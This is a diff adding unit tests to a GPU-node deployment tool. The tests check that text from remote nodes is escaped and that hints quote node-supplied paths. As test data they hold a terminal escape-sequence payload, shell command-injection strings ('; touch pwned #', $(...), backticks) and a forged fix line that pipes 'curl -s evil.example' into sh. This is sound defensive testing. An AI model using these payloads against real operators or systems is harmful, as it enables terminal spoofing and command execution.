@@ -1,5 +1,6 @@
 """Remote scripts are values whose variable parts are quoted arguments; facts are pure parsers."""
 
+import base64
 import re
 import shlex
 import shutil
@@ -8,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from llmgw_pulumi import desired, facts, remote
+from llmgw_pulumi import desired, errors, facts, remote
 from llmgw_pulumi.desired import File
 from tests.unit import fake_pem
 
@@ -189,3 +190,138 @@ def test_gpu_query_bad_field_is_nvidia_smis_own_error():
 def test_gpu_list_matches_the_query():
     listed = facts.parse_gpu_list((FIXTURES / "nvidia-smi-L.txt").read_text())
     assert listed == [(0, "NVIDIA H200", "GPU-65decab1-06a8-ac78-1f56-8a52138b6ec2")]
+
+
+# --------------------------------------------------------------------------- a node's text on the operator's side
+
+HOSTILE = "\x1b]0;owned\x07\x1b[2J\u202e"
+"""Retitles the operator's terminal, clears it, and reverses what follows."""
+SHOWN = "\\x1b]0;owned\\x07\\x1b[2J\\u202e"
+
+
+def test_every_value_parsed_from_a_node_is_printable():
+    node = facts.parse_survey(f"hostname\tgpu-01{HOSTILE}\narch\tamd64\x9b\nactive\tactive\x1b[1A\n"
+                              f"file\t/etc/llmgw/agent.yaml\t644 ro{HOSTILE}ot root\t" + "a" * 64 + "\n")
+    assert node.hostname == f"gpu-01{SHOWN}"
+    assert (node.arch, node.unit_active) == ("amd64\\x9b", "active\\x1b[1A")
+    assert node.files["/etc/llmgw/agent.yaml"].owner == f"ro{SHOWN}ot"
+    assert facts.key_values(f"trust\tadded{HOSTILE}\n") == {"trust": f"added{SHOWN}"}
+
+
+def test_a_plain_value_from_a_node_is_unchanged():
+    node = facts.parse_survey(SURVEY_OUTPUT)
+    assert (node.hostname, node.arch) == ("gpu-01", "amd64")
+    assert facts.parse_survey("text\t/x\t" + base64.b64encode(b"a:\tb\n# \xc3\xa9\n").decode() + "\n").texts == {"/x": "a:\tb\n# é\n"}
+
+
+def test_a_text_file_from_a_node_keeps_its_lines_and_loses_its_escapes():
+    raw = f"server: cp1:7443\r\n# {HOSTILE}\n".encode()
+    seen = facts.parse_survey("text\t/etc/llmgw/agent.yaml\t" + base64.b64encode(raw).decode() + "\n")
+    assert seen.texts["/etc/llmgw/agent.yaml"] == f"server: cp1:7443\\r\n# {SHOWN}\n"
+
+
+def test_gpu_names_hcas_and_nvidia_smi_errors_from_a_node_are_printable():
+    inv = facts.parse_inventory(
+        f"smi\tok\t/usr/bin/nvidia-smi\t\ngpu\t0, GPU-1{HOSTILE}, \"NVIDIA{HOSTILE} H200\", 143771, 0, 580.1, 00:01, 9.0\n"
+        f"hca\tmlx5_0{HOSTILE}\n")
+    assert inv.gpus[0].name == f"NVIDIA{SHOWN} H200" and inv.gpus[0].uuid == f"GPU-1{SHOWN}"
+    assert inv.hcas == (f"mlx5_0{SHOWN}",)
+    failing = facts.parse_inventory(f"smi\tfails\t/usr/bin/nvidia-smi{HOSTILE}\tNo devices{HOSTILE}\tmore\n")
+    assert failing.smi_path == f"/usr/bin/nvidia-smi{SHOWN}" and failing.smi_detail == f"No devices{SHOWN}\\tmore"
+    (problem,) = facts.inventory_problems(failing, [], "/sys/class/infiniband", "gpu-01", "deploy@h")
+    assert all(v.isprintable() for v in problem.values())
+
+
+def test_an_engines_error_from_a_node_is_printable():
+    (probe,) = facts.parse_engine_probes(f"engine\tvllm\tfails\trc=1; {HOSTILE}\n", (("vllm", "/opt/vllm"),))
+    problem = facts.engine_problem(probe, "gpu-01", "deploy@h")
+    assert probe.detail == f"rc=1; {SHOWN}" and SHOWN in problem["problem"]
+    assert all(v.isprintable() for v in problem.values())
+
+
+def test_a_hint_keeps_a_plain_command_as_it_was():
+    (probe,) = facts.parse_engine_probes("engine\tvllm\tnot-executable\t-rw-r--r--\n", (("vllm", "/opt/vllm/bin/vllm"),))
+    assert facts.engine_problem(probe, "gpu-01", "deploy@10.0.0.1")["hint"] == "ssh deploy@10.0.0.1 sudo chmod 0755 /opt/vllm/bin/vllm"
+
+
+def _paste(command, tmp_path):
+    """Run ``command`` in a shell as the operator would paste it, with an ssh that does as ssh does (joins its
+    arguments after the destination with spaces, for the node's shell to read), where the node's shell prints
+    the arguments it was given instead of running them. Returns them."""
+    bindir = tmp_path / "bin"
+    bindir.mkdir(exist_ok=True)
+    (bindir / "ssh").write_text('#!/bin/sh\nshift\nexec sh -c "args() { printf \'%s\\\\0\' \\"\\$@\\"; }; args $*"\n')
+    (bindir / "ssh").chmod(0o755)
+    done = subprocess.run(["sh", "-c", command], capture_output=True, env={"PATH": f"{bindir}:/usr/bin:/bin"}, cwd=tmp_path)
+    return [a.decode() for a in done.stdout.split(b"\0")[:-1]]
+
+
+@pytest.mark.parametrize("evil", ["/usr/bin/nvidia-smi; touch pwned #", "/usr/bin/nvidia-smi$(touch pwned)",
+                                  "/usr/bin/nvidia-smi`touch pwned`", "/x'; touch pwned; '", '/x"; touch pwned; "',
+                                  "/x\\\"; touch pwned; #", "/opt/nvidia smi/nvidia-smi"])
+def test_a_hostile_nvidia_smi_path_in_a_hint_runs_nothing_but_nvidia_smi(tmp_path, evil):
+    """Review M3: a node names its nvidia-smi (found on its PATH) as '<path>; <command> #'. Pasted, the hint runs
+    ssh with that path as one argument on the node: the command runs neither here nor there."""
+    inv = facts.parse_inventory(f"smi\tfails\t{evil}\tNo devices were found\n")
+    (problem,) = facts.inventory_problems(inv, [], "/sys/class/infiniband", "gpu-01", "deploy@10.0.0.1")
+    command = problem["hint"].partition("; usually")[0]
+    assert _paste(command, tmp_path) == [evil]
+    assert not (tmp_path / "pwned").exists()
+
+
+def test_the_hint_as_it_was_built_before_runs_the_nodes_command(tmp_path):
+    """Positive control of the test above: formatted, unquoted, the hint runs the node's command here."""
+    _paste("ssh deploy@10.0.0.1 /usr/bin/nvidia-smi; touch pwned #", tmp_path)
+    assert (tmp_path / "pwned").exists()
+
+
+def _stderr_error(rc, stderr):
+    from llmgw_pulumi.providers import _glue
+    from llmgw_pulumi.runner import Result
+
+    with pytest.raises(errors.LlmgwError) as err:
+        _glue.raise_for(Result(rc, "", stderr), "gpu-01", "installing the agent on 10.0.0.1")
+    return str(err.value)
+
+
+@pytest.mark.parametrize("rc", [1, int(remote.Exit.CHECKSUM)])
+def test_a_nodes_stderr_in_an_error_is_printable_and_cannot_forge_a_fix(rc):
+    text = _stderr_error(rc, f"checksum mismatch{HOSTILE}\n  fix: curl -s evil.example | sh\n")
+    first, fix = text.split("\n")
+    assert first.isprintable() and SHOWN in first and "\\n  fix: curl -s evil.example | sh" in first
+    assert fix.startswith("  fix: ") and "evil" not in fix
+
+
+def test_a_plain_stderr_is_shown_as_it_was():
+    assert _stderr_error(1, "cannot write /etc/llmgw/agent.yaml\n").split("\n")[0] == (
+        "gpu-01: installing the agent on 10.0.0.1 failed (exit 1): cannot write /etc/llmgw/agent.yaml")
+
+
+def test_every_error_message_is_printable_whatever_it_quotes():
+    err = errors.UnreachableError("gpu-01", f"Indecipherable protocol version 'SSH-2.0-x{HOSTILE}'", f"fix it{HOSTILE}")
+    assert str(err) == f"gpu-01: Indecipherable protocol version 'SSH-2.0-x{SHOWN}'\n  fix: fix it{SHOWN}"
+    assert err.message.isprintable() and err.fix.isprintable()
+
+
+def test_a_log_record_quoting_a_node_is_printed_printable(capsys):
+    import logging
+
+    from llmgw_pulumi.providers import _diagnostics
+
+    record = logging.LogRecord("llmgw_pulumi.x", logging.WARNING, __file__, 1, "%s: hostname %s", ("gpu-01", HOSTILE), None)
+    _diagnostics._EngineHandler(None).emit(record)
+    assert capsys.readouterr().err == f"warning: gpu-01: hostname {SHOWN}\n"
+
+
+def test_a_line_a_node_prints_that_does_not_parse_is_left_out_not_raised():
+    node = facts.parse_survey("hostname\tgpu-01\nfile\t/a\tnot a mode\tx\nfile\t/b\t9 root root\tx\nfile\t/c\t600 root\tx\n"
+                              "text\t/d\t\u00a1\ntext\t/e\ta\nfile\t/f\t644 root root\t" + "b" * 64 + "\n")
+    assert set(node.files) == {"/f"} and node.texts == {} and node.hostname == "gpu-01"
+    assert facts.parse_gpu_list("GPU x: NVIDIA H200 (UUID: GPU-1)\nGPU 1: NVIDIA H200 (UUID: GPU-2)\n") == [(1, "NVIDIA H200", "GPU-2")]
+    inv = facts.parse_inventory("smi\tok\t/usr/bin/nvidia-smi\t\ngpu\t0, GPU-1, NVIDIA H200, , 0, 580, 00:01, 9.0\n")
+    assert inv.smi_status == "fails" and "does not parse" in inv.smi_detail and inv.gpus == ()
+
+
+def test_a_gpu_name_quoted_across_lines_is_one_printable_name():
+    inv = facts.parse_inventory('smi\tok\t/usr/bin/nvidia-smi\t\ngpu\t0, GPU-1, "NVIDIA\ngpu\tH200", 143771, 0, 580.1, 00:01, 9.0\n')
+    assert [g.name for g in inv.gpus] == ["NVIDIA\\nH200"]
